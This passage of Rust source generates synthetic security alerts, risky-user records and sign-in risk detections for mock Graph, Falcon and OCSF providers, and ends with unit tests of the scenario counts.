                ["Running", "PendingApproval", "Remediated", "NoThreatsFound"][rng.index(4)]
                    .to_string(),
            ),
        }]
    } else {
        vec![]
    };
    let mut triggers = vec![AlertTrigger {
        name: Some("technique".to_string()),
        r#type: Some("MITRE ATT&CK".to_string()),
        value: Some(t.technique_id.to_string()),
    }];
    if let Some(p) = proc_t {
        triggers.push(AlertTrigger {
            name: Some("processName".to_string()),
            r#type: Some("process".to_string()),
            value: Some(p.0.to_string()),
        });
    }
    let security_resources = if surface == Surface::Cloud || rich {
        vec![
            SecurityResource {
                resource: Some(format!(
                    "/subscriptions/{}/resourceGroups/rg-{}-prod/providers/Microsoft.Compute/virtualMachines/{}",
                    estate.subscription,
                    estate.netbios_domain.to_ascii_lowercase(),
                    host.netbios.to_ascii_lowercase()
                )),
                resource_type: Some(SecurityResourceType::Attacked),
            },
            SecurityResource {
                resource: Some(format!(
                    "/subscriptions/{}/resourceGroups/rg-{}-prod/providers/Microsoft.Network/networkSecurityGroups/nsg-frontend",
                    estate.subscription,
                    estate.netbios_domain.to_ascii_lowercase()
                )),
                resource_type: Some(SecurityResourceType::Related),
            },
        ]
    } else {
        vec![]
    };
    let alert_detections = vec![AlertDetection {
        detection_type: Some(
            [
                "Behavioral",
                "Signature",
                "MachineLearning",
                "ThreatIntelligence",
            ][rng.index(4)]
            .to_string(),
        ),
        method: Some(
            match kind {
                ProviderKind::Graph => "EDR",
                ProviderKind::Falcon => "IOA",
                ProviderKind::Ocsf => "Rule",
            }
            .to_string(),
        ),
        name: Some(format!("{} {}", t.technique_id, t.technique)),
    }];
    let mut tags = host.tags.clone();
    if rich && tags.is_empty() {
        tags.push("HVA".to_string());
    }
    let activity_group_name = if rng.chance(0.25) || rich {
        rng.pick(t.activity_groups)
            .map(|s| s.to_string())
            .or_else(|| rich.then(|| "STRONTIUM".to_string()))
    } else {
        None
    };

    let mut additional_data = Map::new();
    if kind != ProviderKind::Graph {
        additional_data.insert(
            HINTS_KEY.to_string(),
            json!({
                "tactic": t.tactic,
                "tacticId": t.tactic_id,
                "technique": t.technique,
                "techniqueId": t.technique_id,
                "falconProduct": t.falcon_product,
                "falconDeviceId": host.aid,
                "falconCid": estate.falcon_cid,
                "machineDomain": estate.ad_domain,
                "ocsfProduct": ocsf_product.name,
                "surface": format!("{surface:?}").to_ascii_lowercase(),
            }),
        );
    }

    Alert {
        id,
        activity_group_name,
        alert_detections,
        assigned_to,
        azure_subscription_id: (surface == Surface::Cloud || rich)
            .then(|| estate.subscription.clone()),
        azure_tenant_id: estate.tenant.id.clone(),
        category: Some(t.category.to_string()),
        closed_date_time: closed,
        cloud_app_states,
        comments,
        confidence: Some(i32::try_from(rng.range(40, 100)).unwrap_or(80)),
        created_date_time: ts(created),
        description: Some(t.description.to_string()),
        detection_ids: if rng.chance(0.3) || rich {
            vec![rng.hex(16)]
        } else {
            vec![]
        },
        event_date_time: ts(event),
        feedback,
        file_states,
        history_states: history,
        host_states,
        incident_ids: if rng.chance(0.5) || rich {
            vec![rng.range(10_000, 99_999).to_string()]
        } else {
            vec![]
        },
        investigation_security_states,
        last_event_date_time: ts(last_event),
        last_modified_date_time: ts(modified),
        malware_states,
        message_security_states,
        network_connections,
        processes,
        recommended_actions: t.actions.iter().map(|s| s.to_string()).collect(),
        registry_key_states,
        security_resources,
        severity,
        source_materials: vec![portal],
        status,
        tags,
        title: Some(t.titles[kidx].to_string()),
        triggers,
        uri_click_security_states,
        user_states,
        vendor_information: vendor,
        vulnerability_states,
        additional_data,
    }
}

fn remote_domain(t: &Template, inc: &Incident<'_>) -> String {
    match t.remote {
        Some((d, _, _)) if !d.is_empty() => d.to_string(),
        _ => format!("mail-{}.example.net", inc.pid),
    }
}

// ---- identity -----------------------------------------------------------------------------

fn with_tenant(tenant: &str) -> Map<String, Value> {
    let mut m = Map::new();
    m.insert(
        MOCK_TENANT_KEY.to_string(),
        Value::String(tenant.to_string()),
    );
    m
}

fn generate_identity(
    cfg: &ScenarioConfig,
    estate: &Estate,
    rng: &mut Rng,
    graph: &mut ProviderData,
    ocsf: &mut ProviderData,
) {
    let n = cfg.risky_users_per_tenant.min(estate.users.len());
    if n == 0 {
        return;
    }
    let mut order: Vec<usize> = (0..estate.users.len()).collect();
    rng.shuffle(&mut order);
    // Graph takes the first n users of the shuffled estate, OCSF the n starting halfway: the
    // middle half is risky at both (same object id and UPN).
    let graph_users: Vec<&User> = order.iter().take(n).map(|i| &estate.users[*i]).collect();
    let start = n / 2;
    let ocsf_users: Vec<&User> = order
        .iter()
        .cycle()
        .skip(start)
        .take(n)
        .map(|i| &estate.users[*i])
        .collect();
    for (kind, users, out) in [
        (ProviderKind::Graph, graph_users, &mut *graph),
        (ProviderKind::Ocsf, ocsf_users, &mut *ocsf),
    ] {
        let mut krng = rng.fork(kind.as_str());
        identity_for(cfg, estate, &users, &mut krng, out);
    }
}

fn identity_for(
    cfg: &ScenarioConfig,
    estate: &Estate,
    users: &[&User],
    rng: &mut Rng,
    out: &mut ProviderData,
) {
    let tenant = &estate.tenant.id;
    let epoch = scenario_epoch();
    let admin = estate.users.first().map(|u| u.aad_id.clone());
    for u in users {
        let roll = rng.below(100);
        let (state, detail, level) = match roll {
            0..=59 => (
                RiskState::AtRisk,
                RiskDetail::None,
                [RiskLevel::Low, RiskLevel::Medium, RiskLevel::High][rng.index(3)],
            ),
            60..=69 => (
                RiskState::ConfirmedCompromised,
                RiskDetail::AdminConfirmedUserCompromised,
                RiskLevel::High,
            ),
            70..=84 => (
                RiskState::Remediated,
                RiskDetail::UserPerformedSecuredPasswordChange,
                RiskLevel::None,
            ),
            85..=94 => (
                RiskState::Dismissed,
                RiskDetail::AdminDismissedAllRiskForUser,
                RiskLevel::None,
            ),
            _ => (
                RiskState::ConfirmedSafe,
                RiskDetail::AdminConfirmedSigninSafe,
                RiskLevel::None,
            ),
        };
        let first_risk = epoch - Duration::seconds(rng.range(3_600, 30 * 86_400));
        let updated = first_risk + Duration::minutes(rng.range(0, 5 * 1440));
        out.risky_users.push(RiskyUser {
            id: u.aad_id.clone(),
            is_deleted: Some(rng.chance(0.03)),
            is_processing: Some(false),
            risk_detail: Some(detail),
            risk_last_updated_date_time: ts(updated),
            risk_level: Some(level),
            risk_state: Some(state),
            user_display_name: Some(u.display.clone()),
            user_principal_name: Some(u.upn.clone()),
            additional_data: with_tenant(tenant),
        });
        // History: the risk first appearing, then (if any) the change that led to the state.
        let first_type = (*rng.pick(RISK_EVENT_TYPES).unwrap_or(&"unfamiliarFeatures")).to_string();
        let mut items = vec![(
            first_risk,
            RiskState::AtRisk,
            RiskDetail::None,
            [RiskLevel::Low, RiskLevel::Medium, RiskLevel::High][rng.index(3)],
            None,
            vec![first_type],
        )];
        if rng.chance(0.4) {
            let t2 = (*rng.pick(RISK_EVENT_TYPES).unwrap_or(&"anonymizedIPAddress")).to_string();
            items.push((
                first_risk + Duration::minutes(rng.range(10, 600)),
                RiskState::AtRisk,
                RiskDetail::None,
                RiskLevel::High,
                None,
                vec![t2],
            ));
        }
        if state != RiskState::AtRisk {
            let by = match detail {
                RiskDetail::UserPerformedSecuredPasswordChange => Some(u.aad_id.clone()),
                _ => admin.clone(),
            };
            items.push((updated, state, detail, level, by, vec![]));
        }
        for (when, st, det, lvl, by, types) in items {
            out.risky_user_history.push(RiskyUserHistoryItem {
                id: rng.guid(),
                is_deleted: Some(false),
                is_processing: Some(false),
                risk_detail: Some(det),
                risk_last_updated_date_time: ts(when),
                risk_level: Some(lvl),
                risk_state: Some(st),
                user_display_name: Some(u.display.clone()),
                user_principal_name: Some(u.upn.clone()),
                activity: Some(RiskUserActivity {
                    detail: Some(det),
                    risk_event_types: types,
                }),
                initiated_by: by,
                user_id: Some(u.aad_id.clone()),
                additional_data: with_tenant(tenant),
            });
        }
    }
    // Detections: mostly on this provider's risky users, some on other users of the tenant.
    for _ in 0..cfg.detections_per_tenant {
        let u: &User = if rng.chance(0.85) || estate.users.is_empty() {
            match rng.pick(users) {
                Some(u) => u,
                None => return,
            }
        } else {
            match rng.pick(&estate.users) {
                Some(u) => u,
                None => return,
            }
        };
        let event_type = (*rng.pick(RISK_EVENT_TYPES).unwrap_or(&"unfamiliarFeatures")).to_string();
        let home = LOCATIONS[u.home % LOCATIONS.len()];
        let far = LOCATIONS[6 + rng.index(LOCATIONS.len() - 6)];
        let pfx = rng.pick(ATTACKER_PREFIXES).copied().unwrap_or([185, 220]);
        let ip = format!(
            "{}.{}.{}.{}",
            pfx[0],
            pfx[1],
            rng.range(1, 254),
            rng.range(1, 254)
        );
        let activity_at = epoch - Duration::seconds(rng.range(600, 30 * 86_400));
        let offline = matches!(
            event_type.as_str(),
            "leakedCredentials"
                | "investigationsThreatIntelligence"
                | "unlikelyTravel"
                | "passwordSpray"
        );
        let detected = activity_at
            + if offline {
                Duration::hours(rng.range(1, 36))
            } else {
                Duration::seconds(rng.range(0, 5))
            };
        let ua = *rng.pick(USER_AGENTS).unwrap_or(&"python-requests/2.31.0");
        let request_id = rng.guid();
        let correlation_id = rng.guid();
        let mut info = vec![json!({"Key": "userAgent", "Value": ua})];
        match event_type.as_str() {
            "unlikelyTravel" | "impossibleTravel" | "newCountry" => {
                info.push(json!({"Key": "relatedLocation", "Value": {
                    "clientCity": home.0, "clientState": home.1, "clientCountryOrRegion": home.2,
                    "latitude": home.3, "longitude": home.4}}));
                info.push(json!({"Key": "relatedEventTimeInUtc", "Value":
                    Timestamp::from_utc(activity_at - Duration::minutes(rng.range(20, 240))).to_wire()}));
                info.push(json!({"Key": "relatedUserAgent", "Value": USER_AGENTS[0]}));
            }
            "malwareInfectedIPAddress" => {
                info.push(json!({"Key": "malwareName", "Value": "Qakbot"}));
                info.push(json!({"Key": "clientIp", "Value": ip}));
            }
            "mcasSuspiciousInboxManipulationRules" | "suspiciousInboxForwarding" => {
                info.push(json!({"Key": "alertUrl", "Value":
                    format!("https://portal.cloudappsecurity.com/#/alerts/{}", rng.hex(24))}));
            }
            "unfamiliarFeatures" | "anonymizedIPAddress" | "suspiciousBrowser" => {
                info.push(json!({"Key": "riskReasons", "Value": ["UnfamiliarASN", "UnfamiliarLocation", "UnfamiliarIP"]}));
            }
            _ => {}
        }
        info.push(json!({"Key": "requestId", "Value": request_id}));
        info.push(json!({"Key": "correlationId", "Value": correlation_id}));
        let roll = rng.below(100);
        let (state, detail) = match roll {
            0..=64 => (RiskState::AtRisk, RiskDetail::None),
            65..=79 => (
                RiskState::Remediated,
                RiskDetail::UserPassedMfaDrivenByRiskBasedPolicy,
            ),
            80..=89 => (
                RiskState::Dismissed,
                RiskDetail::AdminDismissedAllRiskForUser,
            ),
            90..=94 => (
                RiskState::ConfirmedCompromised,
                RiskDetail::AdminConfirmedSigninCompromised,
            ),
            _ => (RiskState::ConfirmedSafe, RiskDetail::AiConfirmedSigninSafe),
        };
        let level = match event_type.as_str() {
            "leakedCredentials"
            | "investigationsThreatIntelligence"
            | "adminConfirmedUserCompromised" => RiskLevel::High,
            "passwordSpray" | "maliciousIPAddress" | "anomalousToken" => RiskLevel::Medium,
            _ => [RiskLevel::Low, RiskLevel::Medium, RiskLevel::High][rng.index(3)],
        };
        let user_level = matches!(
            event_type.as_str(),
            "leakedCredentials"
                | "investigationsThreatIntelligence"
                | "adminConfirmedUserCompromised"
        );
        let source = match event_type.as_str() {
            "mcasSuspiciousInboxManipulationRules" | "suspiciousInboxForwarding" => {
                "MicrosoftCloudAppSecurity"
            }
            "adminConfirmedUserCompromised" => "activeDirectory",
            _ => "IdentityProtection",
        };
        out.risk_detections.push(RiskDetection {
            id: rng.hex(64),
            activity: Some(if user_level {
                ActivityType::User
            } else {
                ActivityType::Signin
            }),
            activity_date_time: ts(activity_at),
            additional_info: Some(Value::Array(info).to_string()),
            correlation_id: (!user_level).then(|| correlation_id.clone()),
            detected_date_time: ts(detected),
            detection_timing_type: Some(if offline {
                RiskDetectionTimingType::Offline
            } else {
                RiskDetectionTimingType::Realtime
            }),
            ip_address: (!user_level).then(|| ip.clone()),
            last_updated_date_time: ts(detected + Duration::minutes(rng.range(0, 600))),
            location: (!user_level).then(|| SignInLocation {
                city: Some(far.0.to_string()),
                country_or_region: Some(far.2.to_string()),
                geo_coordinates: Some(GeoCoordinates {
                    altitude: None,
                    latitude: Some(far.3),
                    longitude: Some(far.4),
                }),
                state: Some(far.1.to_string()),
            }),
            request_id: (!user_level).then(|| request_id.clone()),
            risk_detail: Some(detail),
            risk_event_type: Some(event_type),
            risk_level: Some(level),
            risk_state: Some(state),
            source: Some(source.to_string()),
            token_issuer_type: Some(if rng.chance(0.9) {
                TokenIssuerType::AzureAd
            } else {
                TokenIssuerType::AdFederationServices
            }),
            user_display_name: Some(u.display.clone()),
            user_id: Some(u.aad_id.clone()),
            user_principal_name: Some(u.upn.clone()),
            additional_data: with_tenant(tenant),
        });
    }
    out.risk_detections.sort_by(|a, b| {
        b.detected_date_time
            .cmp(&a.detected_date_time)
            .then_with(|| a.id.cmp(&b.id))
    });
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn epoch_is_2026_11_01() {
        assert_eq!(
            Timestamp::from_utc(scenario_epoch()).to_wire(),
            "2026-11-01T00:00:00Z"
        );
    }

    #[test]
    fn default_tenants_are_guids_with_domains() {
        for t in TenantSpec::defaults() {
            assert!(uuid::Uuid::parse_str(&t.id).is_ok());
        }
        assert_eq!(TenantSpec::defaults()[0].domain, "contoso.com");
    }

    #[test]
    fn small_scenario_counts_and_duplicates() {
        let cfg = ScenarioConfig {
            alerts_per_tenant: 40,
            risky_users_per_tenant: 10,
            detections_per_tenant: 20,
            ..ScenarioConfig::default()
        };
        let s = Scenario::generate(&cfg);
        for k in ProviderKind::ALL {
            assert_eq!(s.data(k).alerts.len(), 80, "{k:?}");
        }
        assert!(s.data(ProviderKind::Falcon).risky_users.is_empty());
        assert_eq!(s.data(ProviderKind::Graph).risky_users.len(), 20);
        assert_eq!(s.data(ProviderKind::Ocsf).risk_detections.len(), 40);
        assert!(!s.duplicate_groups().is_empty());
        for g in s.duplicate_groups() {
            assert!((2..=3).contains(&g.members.len()));
        }
    }
}
